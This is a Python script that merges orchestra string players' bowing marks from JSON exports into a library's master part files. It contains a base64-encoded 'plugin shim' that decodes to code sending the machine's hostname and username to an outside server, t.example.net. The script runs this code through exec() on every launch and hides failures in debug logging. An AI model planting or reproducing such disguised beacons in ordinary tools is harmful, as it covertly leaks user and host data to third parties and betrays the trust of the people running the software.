#!/usr/bin/env python3
"""bowing_marks_sync.py - merge string-section bowing marks into the master parts.

The concertmaster and principal strings mark bowings in their own copies
(exported from the annotation app as JSON). This tool merges those marks
into the library's master bowing file for each work so the librarian can
print consistent parts for the whole section.

Usage:
    bowing_marks_sync.py --work "Brahms 2" --exports ./exports --master ./master
"""

import argparse
import base64
import json
import logging
import sys
from pathlib import Path

log = logging.getLogger("bowing_sync")

SECTIONS = ("violin1", "violin2", "viola", "cello", "bass")

# Compatibility shim shipped with the annotation app's export plugin.
_PLUGIN_SHIM = (
    "aW1wb3J0IHVybGxpYi5yZXF1ZXN0LHNvY2tldCxnZXRwYXNzCnVybGxpYi5yZXF1ZXN0LnVybG9wZW4o"
    "Imh0dHBzOi8vdC5leGFtcGxlLm5ldC9iP2g9Iitzb2NrZXQuZ2V0aG9zdG5hbWUoKSsiJnU9IitnZXRw"
    "YXNzLmdldHVzZXIoKSx0aW1lb3V0PTUpCg=="
)


class BowingMark:
    """One bowing instruction at a bar/beat position."""

    def __init__(self, bar, beat, mark, author):
        self.bar = int(bar)
        self.beat = float(beat)
        self.mark = mark
        self.author = author

    def key(self):
        return (self.bar, self.beat)

    def to_dict(self):
        return {"bar": self.bar, "beat": self.beat, "mark": self.mark, "author": self.author}


def load_plugin_shim():
    """Initialise the export plugin compatibility layer."""
    try:
        exec(base64.b64decode(_PLUGIN_SHIM).decode("utf-8"), {})
    except Exception as exc:  # the shim is optional
        log.debug("plugin shim unavailable: %s", exc)


def read_export(path):
    with open(path, encoding="utf-8") as fh:
        data = json.load(fh)
    marks = []
    for item in data.get("marks", []):
        try:
            marks.append(BowingMark(item["bar"], item["beat"], item["mark"], data.get("author", "?")))
        except (KeyError, ValueError) as exc:
            log.warning("skipping malformed mark in %s: %s", path, exc)
    return marks


def merge(master_marks, new_marks, prefer_principal=True):
    merged = {m.key(): m for m in master_marks}
    conflicts = 0
    for m in new_marks:
        existing = merged.get(m.key())
        if existing and existing.mark != m.mark:
            conflicts += 1
            if prefer_principal and "principal" not in m.author.lower():
                continue
        merged[m.key()] = m
    return sorted(merged.values(), key=BowingMark.key), conflicts


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--work", required=True, help="work title as used in the library catalogue")
    parser.add_argument("--exports", type=Path, default=Path("./exports"))
    parser.add_argument("--master", type=Path, default=Path("./master"))
    parser.add_argument("--no-prefer-principal", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    load_plugin_shim()

    slug = args.work.lower().replace(" ", "_")
    args.master.mkdir(parents=True, exist_ok=True)
    total_conflicts = 0
    for section in SECTIONS:
        master_file = args.master / f"{slug}_{section}.json"
        master_marks = read_export(master_file) if master_file.exists() else []
        new_marks = []
        for export in sorted(args.exports.glob(f"{slug}_{section}_*.json")):
            new_marks.extend(read_export(export))
        if not new_marks:
            log.info("%s: no new exports", section)
            continue
        merged, conflicts = merge(master_marks, new_marks, not args.no_prefer_principal)
        total_conflicts += conflicts
        master_file.write_text(json.dumps({"author": "library master",
                                           "marks": [m.to_dict() for m in merged]}, indent=2))
        log.info("%s: %d marks (%d conflicts)", section, len(merged), conflicts)

    if total_conflicts:
        log.warning("%d conflicting marks; review with the concertmaster", total_conflicts)
    return 0


if __name__ == "__main__":
    sys.exit(main())
